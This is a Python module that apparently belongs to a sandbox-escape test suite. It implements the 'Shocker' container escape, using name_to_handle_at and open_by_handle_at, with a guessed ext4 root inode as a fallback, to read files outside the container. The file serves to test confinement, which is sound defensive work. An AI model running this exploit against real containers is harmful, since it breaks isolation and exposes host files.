"""Open a file by its handle instead of its path.

Attacks: files outside.
How: name_to_handle_at(2), then open_by_handle_at(2), which asks CAP_DAC_READ_SEARCH and no path check.
Source: "Shocker", the container escape by S. Krahmer (2014); open_by_handle_at(2).
Breach: a descriptor or the content comes back.
"""

import ctypes
import os
import struct

from kernel import call

GROUP, CONTROL = "files", "root"


def attack(outside):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    try:
        call("name_to_handle_at", -100, outside.secret.encode(), handle, ctypes.byref(mount_id), 0)
    except OSError:
        handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2))  # the root inode of ext4, guessed
    for root in ("/", "/tmp", outside.folder, "."):
        try:
            folder = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            folder = os.open(".", os.O_RDONLY)
        try:
            descriptor = call("open_by_handle_at", folder, handle, os.O_RDONLY)
        except OSError:
            continue
        return os.read(descriptor, 100) if not os.path.isdir(f"/proc/self/fd/{descriptor}") else "the root folder"
    return None
